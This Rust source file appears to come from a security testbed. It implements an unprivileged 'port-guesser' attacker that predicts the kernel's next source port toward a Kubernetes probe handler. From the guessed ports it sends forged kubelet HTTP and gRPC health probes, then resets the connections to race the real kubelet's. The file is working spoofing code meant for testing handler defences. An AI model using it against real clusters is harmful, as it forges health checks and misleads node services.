//! An attacker on the node: an unprivileged process outside the kubelet's cgroup. It guesses the source port of the
//! kubelet's next connection, connects to the handler from that port, sends a complete probe and resets the connection.
//! So its connection is still in the handler's accept queue when the kubelet's connection arrives.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use nix::unistd::{Gid, Uid, setgid, setgroups, setuid};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};

use crate::rpc;
use crate::worker::{Pending, Worker, testbed_program};

/// `nobody`.
const NOBODY: u32 = 65534;
/// Marks the attacker's requests.
pub const MARK: &str = "guessed-source-port";
/// Ports tried after each check of the kernel's next port.
const AHEAD: u16 = 18;
/// Minimum duration of a round of one check and [`AHEAD`] guesses: 1,900 connections a second.
const ROUND: Duration = Duration::from_millis(10);
/// The kernel assigns source ports to one destination in steps of two (net/ipv4/inet_hashtables.c).
const STEP: u16 = 2;
const CONNECT: Duration = Duration::from_millis(200);

/// Arguments of `testbed port-guesser`: none.
#[derive(Debug, clap::Args)]
pub struct Args {}

/// A request to the process.
#[derive(Clone, Copy, Debug, Serialize, Deserialize)]
struct Order {
    /// Where the handler listens.
    handler: SocketAddr,
    /// Duration of the attack.
    time: Duration,
}

/// The result of an attack.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub struct Guesses {
    /// Connections that were made from a guessed port.
    pub made: usize,
    /// Connections that failed because the port was in use.
    pub taken: usize,
}

/// A running process, killed on drop.
#[derive(Debug)]
pub struct PortGuesser(Worker);

/// An attack in progress.
#[derive(Debug)]
pub struct Attack {
    pending: Pending,
    time: Duration,
}

impl PortGuesser {
    /// Starts the process.
    ///
    /// # Errors
    /// When it can't be started.
    pub fn start() -> Result<Self> {
        let mut command = Command::new(testbed_program()?);
        Worker::start("port-guesser", command.arg("port-guesser")).map(Self)
    }

    /// Starts an attack that lasts `time`.
    ///
    /// # Errors
    /// When it has ended.
    pub fn attack(&self, handler: SocketAddr, time: Duration) -> Result<Attack> {
        let pending = self.0.send(&Order { handler, time })?;
        Ok(Attack { pending, time })
    }
}

impl Attack {
    /// Waits for the end of the attack.
    ///
    /// # Errors
    /// When the process has ended.
    pub fn wait(self) -> Result<Guesses> {
        self.pending.wait(self.time + Duration::from_secs(10))
    }
}

/// Attacks on request until standard input ends.
///
/// # Errors
/// When the privileges can't be dropped.
pub fn main(_: &Args) -> Result<()> {
    let (uid, gid) = (Uid::from_raw(NOBODY), Gid::from_raw(NOBODY));
    setgroups(&[gid])
        .and_then(|()| setgid(gid))
        .and_then(|()| setuid(uid))
        .context("becoming nobody")?;
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?
        .block_on(rpc::serve(&"ready", |order: Order| async move {
            let attack = tokio::task::spawn_blocking(move || guess(order));
            attack.await.unwrap_or_default()
        }))
}

fn guess(order: Order) -> Guesses {
    let requests = [http(), grpc()];
    let mut guesses = Guesses::default();
    let begun = Instant::now();
    let mut round = 0;
    while begun.elapsed() < order.time {
        round += 1;
        if let Some(port) = next_port(order.handler) {
            for (ahead, request) in (1..=AHEAD).zip(requests.iter().cycle()) {
                let port = port.wrapping_add(ahead * STEP);
                match send_and_reset(order.handler, port, request) {
                    Ok(()) => guesses.made += 1,
                    Err(_) => guesses.taken += 1,
                }
            }
        }
        thread::park_timeout((ROUND * round).saturating_sub(begun.elapsed()));
    }
    guesses
}

/// The source port that the kernel assigns now for a connection to the handler.
fn next_port(handler: SocketAddr) -> Option<u16> {
    let stream = TcpStream::connect_timeout(&handler, CONNECT).ok()?;
    let port = stream.local_addr().ok()?.port();
    socket2::SockRef::from(&stream)
        .set_linger(Some(Duration::ZERO))
        .ok()?;
    Some(port)
}

fn send_and_reset(handler: SocketAddr, port: u16, request: &[u8]) -> Result<()> {
    let socket = Socket::new(
        Domain::for_address(handler),
        Type::STREAM,
        Some(Protocol::TCP),
    )?;
    socket.bind(&SocketAddr::new(handler.ip(), port).into())?;
    socket.connect_timeout(&handler.into(), CONNECT)?;
    socket.set_linger(Some(Duration::ZERO))?;
    TcpStream::from(socket).write_all(request)?;
    Ok(())
}

/// A probe that the sample pod declares.
fn http() -> Vec<u8> {
    format!(
        "GET /healthy HTTP/1.1\r\nHost: a\r\nUser-Agent: kube-probe/1.36\r\nX-Mark: {MARK}\r\n\r\n"
    )
    .into_bytes()
}

/// The beginning of an HTTP/2 connection and one gRPC health check (RFC 9113; HPACK literals without index, RFC 7541, 6.2.2).
fn grpc() -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/grpc.health.v1.Health/Check"),
        (":authority", "a"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("x-mark", MARK),
    ] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or_default());
            block.extend_from_slice(text.as_bytes());
        }
    }
    // Service "ok" in a message of its own.
    let message = [0, 0, 0, 0, 4, 0x0a, 2, b'o', b'k'];
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(4, 0, 0, &[]));
    bytes.extend(frame(1, 4, 1, &block));
    bytes.extend(frame(0, 1, 1, &message));
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, high, middle, low] = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut bytes = vec![high, middle, low, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

#[cfg(test)]
mod tests {
    use super::{MARK, grpc};

    #[tokio::test]
    async fn the_health_check_is_valid_grpc() {
        let (client, server) = tokio::io::duplex(4096);
        let mut bytes = grpc();
        let _writing = tokio::spawn(async move {
            use tokio::io::AsyncWriteExt;
            let (_read, mut write) = tokio::io::split(client);
            write.write_all(&bytes).await.expect("written");
            bytes.clear();
            std::future::pending::<()>().await;
        });
        let mut connection = h2::server::handshake(server).await.expect("HTTP/2");
        let accepted = connection.accept().await.expect("a request");
        let (request, _) = accepted.expect("a whole request");
        assert_eq!(request.uri().path(), "/grpc.health.v1.Health/Check");
        assert_eq!(request.headers()["x-mark"], MARK);
    }
}
